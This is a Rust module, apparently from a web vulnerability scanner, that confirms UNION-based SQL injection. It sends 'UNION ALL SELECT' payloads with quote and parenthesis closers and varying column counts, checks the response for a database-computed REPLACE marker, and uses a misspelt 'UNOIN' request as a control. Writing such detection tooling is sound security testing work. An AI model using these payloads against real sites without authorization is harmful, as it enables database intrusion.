//! By a row of our own in the answer.
//!
//! The row is worked out by the database: `REPLACE('axb','x','c')` gives `acb`, which stands nowhere in the request, not even
//! after an application has taken signs out of it. Every database of note reads it alike.

use model::profile::Payloads;

use super::{Dbms, Proven, UNION};
use crate::conclude::Sighting;
use crate::data::compare::{Payload, ask};
use crate::data::point;
use crate::probe::{Probe, ProbeError, shown};

/// The most columns tried.
const MOST_COLUMNS: usize = 12;
/// The most columns where each is tried alone.
const MOST_TYPED: usize = 6;

/// What a row is made of.
struct Row {
    /// The expression.
    expression: String,
    /// Its value.
    value: String,
}

impl Row {
    fn new(probe: &Probe<'_>) -> Self {
        let (a, b, c, x) = (probe.token(), probe.token(), probe.token(), probe.token());
        Self { expression: format!("REPLACE('{a}{x}{b}','{x}','{c}')"), value: format!("{a}{c}{b}") }
    }
}

/// Tries numbers of columns, after `close` if that is known.
pub(super) async fn prove(
    probe: &Probe<'_>,
    dbms: Option<Dbms>,
    close: Option<&'static str>,
) -> Result<Option<Proven>, ProbeError> {
    let all: &[&'static str] =
        if probe.payloads >= Payloads::Thorough { &["'", "", "\"", "')", ")", "%')"] } else { &["'", ""] };
    let closes = match close {
        Some(close) => vec![close],
        None => all.to_vec(),
    };
    let typed = match dbms {
        Some(Dbms::MySql | Dbms::Sqlite) => false,
        Some(_) => true,
        None => close.is_some(),
    };
    let source = if dbms == Some(Dbms::Oracle) { " FROM DUAL" } else { "" };
    for close in closes {
        for columns in 1..=MOST_COLUMNS {
            if let Some(proven) = attempt(probe, close, columns, None, source).await? {
                return Ok(Some(proven));
            }
            for at in (0..columns).filter(|_| typed && columns <= MOST_TYPED) {
                if let Some(proven) = attempt(probe, close, columns, Some(at), source).await? {
                    return Ok(Some(proven));
                }
            }
        }
    }
    Ok(None)
}

/// A row with that many columns; the expression in every one, or in one alone beside nulls where types matter.
async fn attempt(
    probe: &Probe<'_>,
    close: &'static str,
    columns: usize,
    only: Option<usize>,
    source: &str,
) -> Result<Option<Proven>, ProbeError> {
    let row = Row::new(probe);
    let cell = |i: usize| if only.is_none_or(|at| at == i) { row.expression.as_str() } else { "NULL" };
    let cells: Vec<&str> = (0..columns).map(cell).collect();
    let number = point::is_number(point::base(probe)) && !close.starts_with(['\'', '"', '%']);
    let other = if number { format!("-{}", 1000 + probe.client.env().below(9000)) } else { probe.token() };
    let with = |union: &str| {
        Payload::Text(format!("{other}{close} {union} ALL SELECT {}{source}-- -", cells.join(",")))
    };
    let attack = ask(probe, &with("UNION")).await?;
    if !attack.exchange.response.text().contains(&row.value) {
        return Ok(None);
    }
    let control = ask(probe, &with("UNOIN")).await?;
    if control.exchange.response.text().contains(&row.value) {
        return Ok(None);
    }
    let summary = format!(
        "A row of {columns} columns put into the result by UNION is shown: the answer holds \"{}\", which the database \
         worked out from \"{}\"; with the keyword misspelt it does not",
        row.value, row.expression
    );
    let control = &control.exchange;
    let web = probe.evidence_at(&attack.value, &attack.exchange, &row.value).with(
        "control",
        &control.raw_request,
        shown(control),
    );
    let sighting = Sighting::confirmed(UNION, summary, web);
    Ok(Some(Proven { sighting, dbms: None, close: Some(close) }))
}
